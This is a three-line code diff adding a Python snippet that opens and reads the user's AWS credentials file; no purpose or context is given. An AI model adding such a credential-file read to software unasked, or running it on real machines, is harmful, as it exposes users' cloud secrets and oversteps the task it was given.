@@ -1,0 +1,3 @@
+import os
+
+open(os.path.expanduser("~/.aws/credentials")).read()
